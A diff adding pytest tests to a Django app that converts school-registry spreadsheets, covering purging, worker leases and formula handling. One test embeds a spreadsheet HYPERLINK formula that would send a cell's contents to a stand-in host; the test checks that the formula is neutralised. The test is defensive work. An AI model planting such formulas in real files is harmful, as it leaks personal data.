@@ -4,12 +4,16 @@ from __future__ import annotations
 
 import datetime
 import io
+from itertools import chain
+from unittest import mock
 
 import pytest
 from django.test import TestCase
 from django.utils import timezone
+from django_tasks_db.models import DBTaskResult
+from openpyxl import load_workbook
 
-from records import deliveries, imports
+from records import deliveries, imports, leases, tasks
 from records.cells import ErrorCell, FormulaCell
 from records.columns import HEADERS
 from records.deliveries.conversion import Converter, roc_date
@@ -19,6 +23,8 @@ from records.models import Delivery, DeliveryMapping, ImportBatch, Person
 from records.programmes import Lists
 from records.rows import INDEX
 from records.tables import read_table
+from records.verification import check_stuck_batches
+from records.workbooks.limits import MAX_SAMPLE_TEXT
 from records.workbooks.reader import WorkbookRefused, read_headers, read_sheet
 from records.workbooks.writer import write_sheet
 from tests.deliveries import FOREIGN, as_proposed, delivered
@@ -190,6 +196,28 @@ def test_the_filled_template_is_clean_but_for_the_cell_that_could_not_be_read(tm
     assert both[0] == both[1]
 
 
+def test_a_formula_of_the_delivery_calculates_nothing_in_the_filled_template(tmp_path):
+    formula = FormulaCell('=HYPERLINK("http://example.com/?x="&F2,"x")', "基隆市中正區北寧路2號")
+    delivery = delivered([row(聯絡住址=formula, 班級資料=FormulaCell('="四年"&"B班"', None))])
+    convert(delivery, as_proposed(delivery))
+    deliveries.write_filled(delivery, tmp_path / "轉檔.xlsx")
+    [_headers, cells] = load_workbook(tmp_path / "轉檔.xlsx").active.iter_rows()
+    written = {cell.value: cell.data_type for cell in cells}
+    assert written["基隆市中正區北寧路2號"] == "s" and "f" not in written.values()
+
+
+def test_of_a_text_that_fills_every_cell_only_the_beginning_is_looked_at(tmp_path):
+    """As many columns as may be that share one text as long as may be: 17 KB as a file, 800 MB as an answer."""
+    columns, long = 20, "x" * 5_000
+    rows = [
+        ["姓名", "學號", *(f"欄{n}" for n in range(columns - 3)), long],
+        *([long] * columns for _ in range(3)),
+    ]
+    found = read_headers(write_with_openpyxl(tmp_path / "長.xlsx", {"名冊": rows}), known=["姓名"], sample=30)
+    assert found.headers[:2] == ["姓名", "學號"]
+    assert max(map(len, [*found.headers, *chain(*found.samples)])) == MAX_SAMPLE_TEXT
+
+
 def test_row_numbers_are_those_of_the_registrars_file(tmp_path):
     made = row()
     headers = [header for header, ours in FOREIGN.items() if ours]
@@ -270,20 +298,87 @@ def test_a_failing_conversion_goes_back_to_the_mapping(monkeypatch):
     assert list(path.parent.glob(f"{path.stem}.*")) == [path]
 
 
-def test_what_nobody_goes_on_with_is_deleted_after_a_day_and_a_dead_conversion_goes_back():
+def test_what_nobody_goes_on_with_is_deleted_after_a_day():
     now = timezone.now()
-    old, dead, fresh = delivered([row()]), delivered([row()]), delivered([row()])
-    Delivery.objects.filter(pk=old.pk).update(uploaded_at=now - deliveries.PATIENCE * 1.1)
-    deliveries.use(dead, as_proposed(dead))
-    Delivery.objects.filter(pk=dead.pk).update(heartbeat_at=now - datetime.timedelta(hours=1))
+    old, back, fresh = delivered([row()]), delivered([row()]), delivered([row()])
+    Delivery.objects.exclude(pk=fresh.pk).update(uploaded_at=now - deliveries.PATIENCE * 1.1)
+    deliveries.use(back, as_proposed(back))  # waited long for the worker, and for a person since a moment ago
+    Delivery.objects.filter(pk=back.pk).update(state=State.VALUES)
     with TestCase.captureOnCommitCallbacks(execute=True):
-        assert deliveries.recover(now) == 2
-    for delivery in (old, dead, fresh):
+        assert deliveries.purge(now) == 1
+    for delivery in (old, back, fresh):
         delivery.refresh_from_db()
-    assert (old.state, dead.state, fresh.state) == (State.DISCARDED, State.MAPPING, State.MAPPING)
+    assert (old.state, back.state, fresh.state) == (State.DISCARDED, State.VALUES, State.MAPPING)
     assert bytes(old.details) == b"" and old.error
-    assert [deliveries.upload_path(one).exists() for one in (old, dead, fresh)] == [False, True, True]
+    assert [deliveries.upload_path(one).exists() for one in (old, back, fresh)] == [False, True, True]
     assert deliveries.withdraw(importer()) == 2
+
+
+def test_the_files_of_a_delivery_that_has_ended_go_in_the_end():
+    """Killed between the commit that ended it and the deletion, which is not run in a test."""
+    ended, waiting = delivered([row()]), delivered([row()])
+    path = deliveries.upload_path(ended)
+    filled = path.with_suffix(".7.filled")
+    filled.write_bytes(b"PK")
+    assert deliveries.discard(ended)
+    deliveries.purge(timezone.now() + datetime.timedelta(hours=2))
+    assert not path.exists() and not filled.exists() and deliveries.upload_path(waiting).exists()
+
+
+def test_a_process_that_dies_while_it_reads_the_headers_leaves_no_delivery(monkeypatch):
+    monkeypatch.setattr(deliveries.life, "read_headers", mock.Mock(side_effect=KeyboardInterrupt))
+    with pytest.raises(KeyboardInterrupt):
+        delivered([row()])
+    assert not Delivery.objects.exists()
+
+
+# --- conversions that die, freeze or wait ---------------------------------------------------------------------------
+def test_a_conversion_in_the_queue_waits_for_its_turn_however_old_its_file_is(settings):
+    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}
+    delivery, now = delivered([row()]), timezone.now()
+    Delivery.objects.update(uploaded_at=now - deliveries.PATIENCE * 1.1)
+    assert tasks.request_conversion(delivery, as_proposed(delivery), values_settled=False)
+    assert tasks.resume(now + 2 * leases.LEASE) == 0
+    assert Delivery.objects.get().state == State.CONVERTING and DBTaskResult.objects.count() == 1
+
+
+def test_a_conversion_whose_task_was_lost_is_done_after_all():
+    delivery, now = delivered([row()]), timezone.now()
+    assert deliveries.use(delivery, as_proposed(delivery))
+    assert list(check_stuck_batches(now + datetime.timedelta(minutes=11)))
+    assert tasks.resume(now + 2 * leases.LEASE) == 1
+    delivery.refresh_from_db()
+    assert (delivery.state, delivery.batch.state) == (State.DONE, "planned")
+    assert not list(check_stuck_batches(now + datetime.timedelta(minutes=11)))
+
+
+def test_a_conversion_that_ends_every_worker_goes_back_to_the_mapping():
+    delivery = delivered([row()])
+    assert deliveries.use(delivery, as_proposed(delivery))
+    Delivery.objects.update(resumes=3)
+    [left] = deliveries.left_behind(timezone.now() + 2 * leases.LEASE)
+    assert not deliveries.take_over(left)
+    delivery.refresh_from_db()
+    assert delivery.state == State.MAPPING and "多次中斷" in delivery.error
+
+
+@pytest.mark.parametrize("act", [deliveries.take_over, lambda delivery: deliveries.withdraw(importer())])
+def test_a_conversion_that_somebody_took_away_meanwhile_writes_nothing(monkeypatch, act):
+    """Taken over by another worker while this one was frozen, or withdrawn because the account was closed."""
+    delivery = delivered([row()])
+    fill = deliveries.converting._fill
+
+    def filled(*args: object) -> object:
+        unknown = fill(*args)
+        assert act(Delivery.objects.get())
+        return unknown
+
+    monkeypatch.setattr(deliveries.converting, "_fill", filled)
+    assert deliveries.use(delivery, as_proposed(delivery))
+    assert deliveries.convert(delivery) is None and not ImportBatch.objects.exists()
+    monkeypatch.undo()
+    is_resumed = Delivery.objects.get().state == State.CONVERTING
+    assert bool(deliveries.convert(Delivery.objects.get())) is is_resumed
 
 
 # --- one row -------------------------------------------------------------------------------------------------------
@@ -414,3 +509,20 @@ def test_a_delivery_without_any_people_is_refused(tmp_path):
         delivery = deliveries.receive(file, file_name=path.name, user=importer())
     assert convert(delivery, as_proposed(delivery)) is None
     assert delivery.state == State.REFUSED and "沒有任何資料" in delivery.error
+
+
+def test_an_answer_about_a_value_holds_where_a_formula_says_it_and_an_error_is_no_value():
+    rows = [row(在學狀態=FormulaCell('=IF(1,"應屆畢業","")', "應屆畢業")), row(在學狀態=ErrorCell("#N/A"))]
+    delivery = delivered(rows)
+    assert convert(delivery, as_proposed(delivery)) is None
+    assert delivery.open_details()["unknown"] == {"enrolment_status": [["應屆畢業", 1]]}
+    mapping = deliveries.mapping_of(delivery.mapping)
+    answers = {"enrolment_status": {"應屆畢業": "21-畢業"}}
+    answered = deliveries.Mapping(mapping.columns, mapping.joins, answers)
+    assert deliveries.settle(delivery, deliveries.save("答覆", answered, user=importer()))
+    with TestCase.captureOnCommitCallbacks(execute=True):
+        batch = deliveries.convert(delivery)
+    imports.read_and_plan(batch)
+    translated, wrong = views(batch)
+    assert "畢業" in translated.values["在學狀態"] and "應屆" not in translated.values["在學狀態"]
+    assert any(remark[0] == "在學狀態" for remark in wrong.remarks)
